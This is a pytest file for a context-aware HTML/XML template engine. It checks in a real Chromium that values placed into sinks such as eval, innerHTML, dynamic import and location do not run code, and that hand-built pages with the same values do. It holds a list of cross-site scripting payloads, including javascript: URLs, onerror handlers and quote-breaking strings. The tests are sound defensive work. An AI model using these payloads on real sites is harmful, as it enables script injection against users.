"""What values are given to, in a real Chromium: nothing runs that the template does not say, and it would by hand."""

from __future__ import annotations

import time
from contextlib import ExitStack, suppress
from html import escape
from typing import TYPE_CHECKING, Any

import pytest
from serving import served

from untor import Engine, PlacementError, Policy, RenderError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from selenium.webdriver import Chrome

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"'
SVG += ' xmlns:q="http://www.w3.org/1999/xlink"'

CASES: dict[str, str] = {
    # modules and other code by its address
    "import": '<script type=module>import "{= x =}"</script>',
    "import, a path": '<script type=module>import "/static/{= x =}.js"</script>',
    "export from": '<script type=module>export * from "{= x =}"</script>',
    "import()": '<script>import("{= x =}")</script>',
    "import(), a template literal": "<script>import(`/static/{= x =}.js`)</script>",
    "import(), a value": "<script>import({= x =})</script>",
    "import() of parts": '<script>import("/static/" + "{= x =}" + ".js")</script>',
    "import() in a handler": "<img src=/static/none onerror=\"import('{= x =}')\">",
    "import map": '<script type=importmap>{"imports": {"a": "{= x =}"}}</script><script type=module>import "a"</script>',
    "Worker": '<script>new Worker("/static/{= x =}.js")</script>',
    "SharedWorker": '<script>new SharedWorker("/static/{= x =}.js")</script>',
    "register": '<script>navigator.serviceWorker.register("/static/{= x =}.js")</script>',
    "addModule": '<script>CSS.paintWorklet.addModule("{= x =}")</script>',
    "script.src": '<script>const s = document.createElement("script"); s.src = "{= x =}"; el.append(s)</script>',
    "script src": '<script src="{= x =}"></script>',
    "link href": '<link rel=modulepreload href="{= x =}">',
    # code
    "eval": '<script>eval("f(\'{= x =}\')")</script>',
    "Function": '<script>new Function("f(\'{= x =}\')")()</script>',
    "setTimeout": '<script>setTimeout("f(\'{= x =}\')", 1)</script>',
    "script.text": '<script>const s = document.createElement("script"); s.text = "f(\'{= x =}\')"; el.append(s)</script>',
    "setAttribute": '<script>el.setAttribute("onclick", "f(\'{= x =}\')"); el.click()</script>',
    "a member by its name": "<script>window[{= x =}]('ran()')</script>",
    # HTML
    "innerHTML": '<script>el.innerHTML = "<b>{= x =}</b>"</script>',
    "innerHTML, an attribute": "<script>el.innerHTML = '<img title=\"{= x =}\">'</script>",
    "innerHTML, a value": "<script>el.innerHTML = {= x =}</script>",
    "innerHTML, parts": '<script>el.innerHTML = "<b>" + "{= x =}"</script>',
    "outerHTML": "<script>el.outerHTML = `<b>{= x =}</b>`</script>",
    "insertAdjacentHTML": '<script>el.insertAdjacentHTML("beforeend", "{= x =}")</script>',
    "document.write": '<script>document.write("<b>{= x =}</b>")</script>',
    "document.write in pieces": '<script>document.write("<img title=\'"); document.write("{= x =}")</script>',
    "createContextualFragment": '<script>el.append(document.createRange().createContextualFragment("{= x =}"))</script>',
    "srcdoc": '<script>const i = document.createElement("iframe"); i.srcdoc = "{= x =}"; el.append(i)</script>',
    "setHTMLUnsafe": '<script>el.setHTMLUnsafe("<b>{= x =}</b>")</script>',
    "an object's innerHTML": '<script>Object.assign(el, {innerHTML: "{= x =}"})</script>',
    # URLs that are followed
    "location": '<script>location = "{= x =}"</script>',
    "location.href": "<script>location.href = {= x =}</script>",
    "href": '<script>const a = document.createElement("a"); a.href = "{= x =}"; el.append(a); a.click()</script>',
    "action": '<script>const m = document.createElement("form"); m.action = "{= x =}"; el.append(m); m.submit()</script>',
    "iframe.src": '<script>const i = document.createElement("iframe"); i.src = "{= x =}"; el.append(i)</script>',
    "Object.assign": '<script>Object.assign(location, {href: "{= x =}"})</script>',
    # what a script is
    "a type that something runs": "<script type=text/plain>{= x =}</script><script>eval(document.scripts[1].text)</script>",
    "a script without its src": "<script src={= y =}>f('{= x =}')</script>",
    "an attribute that a library runs": "<p ng-init=\"{= x =}\"></p><script>eval(document.querySelector('p').getAttribute('ng-init'))</script>",
    "an expression in an attribute": "<p x-data=\"f('{= x =}')\"></p><script>eval(document.querySelector('p').getAttribute('x-data'))</script>",
}  # fmt: skip
"""Templates of HTML. What is refused must still run code when it is put together by hand."""

XML_CASES: dict[str, str] = {
    "a script": f"<svg {SVG}><s:script>{{= x =}}</s:script></svg>",
    "a script by another prefix": f"<r {SVG}><h:script>{{= x =}}</h:script></r>",
    "the address of a script": f'<r {SVG}><h:script src="{{= x =}}"></h:script></r>',
    "the address of a script, by a prefix": f'<svg {SVG}><s:script q:href="{{= x =}}"/></svg>',
    "a handler": f"<svg {SVG} onload=\"f('{{= x =}}')\"></svg>",
    "a frame": f'<r {SVG}><h:iframe src="{{= x =}}"/></r>',
    "a document in an attribute": f'<r {SVG}><h:iframe srcdoc="{{= x =}}"/></r>',
    "an animation": f'<svg {SVG}><s:a><s:set attributeName="href" to="{{= x =}}"/></s:a>'
    '<s:script>onload = () =&gt; setTimeout(() =&gt; document.querySelector("a").dispatchEvent(new MouseEvent("click")), 50)'
    "</s:script></svg>",
}
"""Templates of XML and SVG; what is printed into a handler there is ``f``."""


FOLLOWED = frozenset("location location.href href action Object.assign".split())
"""Cases whose URLs are followed, as links are: to another origin, too, but not to code."""


def payloads(site: Site) -> list[str]:
    """Return values that run code, or load it from another origin or folder, somewhere."""
    address = f"{site.elsewhere}/{site.round}/code.js"
    values = [
        address, address.removeprefix("http:"), f"../{site.round}/code", "..%2fuploads/code", "javascript:RAN", "java\tscript:RAN",
        "data:text/javascript,RAN", "<img src=x onerror=RAN>", "<svg onload=RAN>", "<script>RAN</script>", "' onerror='RAN' src='x",
        '" onerror="RAN" src="x', "RAN", "');RAN;('", '");RAN;("', "`);RAN;(`", "eval", "]]>", "\\u0027);RAN//", f"<h:script src='{address}'/>",
    ]  # fmt: skip
    return [value.replace("RAN", "(self.ran||parent.ran)()") for value in values]


class Site:
    """The page's own origin, another one, and what has been asked of it: that is how code shows that it ran."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.pages: dict[str, tuple[str, str]] = {}
        self.home = self.elsewhere = ""
        self.round = 0

    async def __call__(self, scope: Any, _receive: Any, send: Any) -> None:
        """Answer for both origins."""
        if scope["type"] != "http":
            raise RuntimeError(scope["type"])
        path = scope["raw_path"].decode()
        host = dict(scope["headers"])[b"host"].decode()
        if self.elsewhere.endswith(host):
            self.asked.append(path)
        kind, body = self.pages.get(path, ("text/plain", ""))
        if path.split("/")[2:] == ["code.js"]:
            kind, body = "text/javascript", f'fetch("{self.elsewhere}/{self.round}/ran")'
        headers = [
            (b"content-type", kind.encode()),
            (b"access-control-allow-origin", b"*"),
            (b"service-worker-allowed", b"/"),
        ]
        await send({"type": "http.response.start", "status": 200 if body else 404, "headers": headers})
        await send({"type": "http.response.body", "body": body.encode("utf-8", "replace")})


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    """Serve two origins."""
    made = Site()
    with ExitStack() as stack:
        made.home, made.elsewhere = (stack.enter_context(served(made)) for _ in range(2))
        yield made


def runs(browser: Chrome, site: Site, pages: list[tuple[str, str]], *, control: bool = False) -> list[str]:
    """Open pages in frames of one page; return what the other origin was asked for. A control is waited for."""
    from selenium.common.exceptions import TimeoutException  # noqa: PLC0415  most tests run without it

    if not pages:
        return []
    pages = list(dict.fromkeys(pages))
    site.pages = {f"/frame/{number}": page for number, page in enumerate(pages)}
    frames = "".join(f"<iframe src=/frame/{number}></iframe>" for number in range(len(pages)))
    site.pages["/"] = "text/html", f"<!doctype html>{frames}"
    site.asked.clear()
    if control:
        browser.execute_cdp_cmd("Page.navigate", {"url": f"{site.home}/"})
    else:
        browser.set_page_load_timeout(20)
        with suppress(TimeoutException):
            browser.get(f"{site.home}/")
        browser.set_page_load_timeout(300)
    deadline = time.monotonic() + (60 if control else 0.8)
    wanted = {f"/{site.round}/ran", f"/{site.round}/code.js"}
    awaited = wanted if control else {f"/{site.round}/ran"}
    while time.monotonic() < deadline and awaited.isdisjoint(site.asked):
        time.sleep(0.02)
    site.round += 1
    return [path.rpartition("/")[2] for path in site.asked if path in wanted]


def html_page(site: Site, content: str) -> tuple[str, str]:
    prelude = f'<script>function ran() {{ fetch("{site.elsewhere}/{site.round}/ran") }} function f() {{}}</script>'
    return "text/html", f"<!doctype html>{prelude}<body><div id=el>{content}"


def xml_page(site: Site, content: str) -> tuple[str, str]:
    prelude = f'<s:script>function ran() {{ fetch("{site.elsewhere}/{site.round}/ran") }} function f() {{}}</s:script>'
    return "image/svg+xml" if content.startswith("<svg") else "application/xml", content.replace(">", f">{prelude}", 1)


@pytest.mark.parametrize("name", [*CASES, *(f"XML: {name}" for name in XML_CASES)])
def test_nothing_runs(name: str, browser: Chrome, site: Site) -> None:
    """For no value does the page run code or load it from elsewhere; put together by hand, it does."""
    in_xml = name.startswith("XML: ")
    source = XML_CASES[name.removeprefix("XML: ")] if in_xml else CASES[name]
    page: Callable[[Site, str], tuple[str, str]] = xml_page if in_xml else html_page
    made = []
    try:
        template = Engine().compile(source, "page.svg" if in_xml else "page.html")
        for value in payloads(site):
            try:
                made.append(page(site, template.render(x=value, y=None)))
            except RenderError:
                continue
    except PlacementError:
        pass
    asked = runs(browser, site, made)
    assert (set(asked) - {"code.js"} if name in FOLLOWED else asked) == (set() if name in FOLLOWED else [])
    by_hand = [page(site, by_hand_of(source, value, in_xml=in_xml)) for value in payloads(site)]
    assert runs(browser, site, by_hand, control=True), "the control did not run"


def by_hand_of(source: str, value: str, *, in_xml: bool) -> str:
    """Put a page together as one would who escapes for HTML alone, and where there are no quotes for nothing."""
    quoted = f'"{value}"' if any(code in source for code in ("({= x", "= {= x", "[{= x")) else value
    shown = escape(quoted) if in_xml and "script>{=" not in source else quoted
    return source.replace("{= x =}", shown).replace(" src={= y =}", "")


def test_a_nonce_covers_no_module_of_a_value(browser: Chrome, site: Site) -> None:
    """Under a strict policy a nonce would let a script import what a value names: it does not get to name it."""
    engine = Engine(policy=Policy(directives={"connect-src": "*"}))
    source = '<!doctype html><body><script type=module>import "{= x =}"</script>'
    page = engine.compile(source).page({"x": f"{site.elsewhere}/{site.round}/code.js"}, policy=engine.policy or True)
    assert runs(browser, site, [("text/html", page.body.decode())]) == []
    assert "about:invalid" in page.body.decode()


@pytest.mark.parametrize("operator", ["=", "+=", "&&=", "||=", "??="])
def test_what_is_assigned_in_any_way(operator: str) -> None:
    """Each operator that can assign its right side, or text with it, gives a sink what it takes."""
    html, url = "el.innerHTML {} {{= x =}}", "location.href {} {{= x =}}"
    (found,) = Engine().compile(f"<script>{html.format(operator)}</script>").placements
    assert found.escapers == ("script-html",)
    source = f"<script>{url.format(operator)}</script>"
    if operator == "+=":
        with pytest.raises(PlacementError):
            Engine().compile(source)
    else:
        assert Engine().compile(source).placements[0].escapers == ("script-url",)
